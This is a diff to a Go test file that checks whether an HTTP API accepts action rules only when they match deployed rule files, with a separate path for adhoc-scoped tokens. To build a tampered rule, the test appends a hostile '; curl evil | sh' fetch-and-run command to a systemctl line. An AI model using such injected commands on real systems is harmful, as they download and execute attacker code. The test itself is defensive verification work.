@@ -1,9 +1,12 @@
 package httpapi
 
 import (
+	"bytes"
 	"context"
 	"encoding/json"
 	"net/http"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -152,6 +155,58 @@ func TestProvenance(t *testing.T) {
 			}
 			if strings.Contains(logs, signingKey) || strings.Contains(logs, tc.token) {
 				t.Fatal("a key or token reached the logs")
+			}
+		})
+	}
+}
+
+// With rules_dir, an unsigned rule identical to the deployed one of that
+// name is verified (scope act is enough); a changed one is not.
+func TestDeployedRuleVerified(t *testing.T) {
+	valid := fixture(t, "action.json")
+	var fields map[string]json.RawMessage
+	if err := json.Unmarshal([]byte(valid), &fields); err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	// The file as an author writes it: indented, keys in another order.
+	var pretty bytes.Buffer
+	json.Indent(&pretty, fields["rule"], "", "  ")
+	if err := os.WriteFile(filepath.Join(dir, "day_duplicator_gc_restart.json"), pretty.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(dir, "broken.json"), []byte(`{"rule_name": "day_duplicator_gc_restart"`), 0o644)
+	changed := strings.Replace(valid, "sudo systemctl restart duplicator", "sudo systemctl restart duplicator; curl evil | sh", 1)
+	for _, tc := range []struct {
+		name, token, body string
+		dir               string
+		status            int
+		adhoc             bool
+	}{
+		{"deployed rule, act token", classifierToken, valid, dir, http.StatusAccepted, false},
+		{"changed rule, act token", classifierToken, changed, dir, http.StatusForbidden, false},
+		{"changed rule, adhoc token", adhocToken, changed, dir, http.StatusAccepted, true},
+		{"no rules_dir", classifierToken, valid, "", http.StatusForbidden, false},
+		{"rules_dir gone", classifierToken, valid, filepath.Join(dir, "missing"), http.StatusForbidden, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			a := newAPIWith(t, "classifier:"+classifierToken+"\nalice:"+adhocToken+" scopes=adhoc\n", func(h *Handler) {
+				if tc.dir != "" {
+					h.Deployed = &DeployedRules{Dir: tc.dir}
+				}
+			})
+			code, body := a.do(http.MethodPost, "/v1/action", tc.token, tc.body)
+			if code != tc.status {
+				t.Fatalf("status %d, want %d: %s", code, tc.status, body)
+			}
+			if code != http.StatusAccepted {
+				return
+			}
+			var acc api.ActionAccepted
+			json.Unmarshal(body, &acc)
+			x, err := a.st.Get(context.Background(), acc.ExecutionID)
+			if err != nil || x.AdHoc != tc.adhoc {
+				t.Fatalf("stored %+v %v, want adhoc %t", x, err, tc.adhoc)
 			}
 		})
 	}
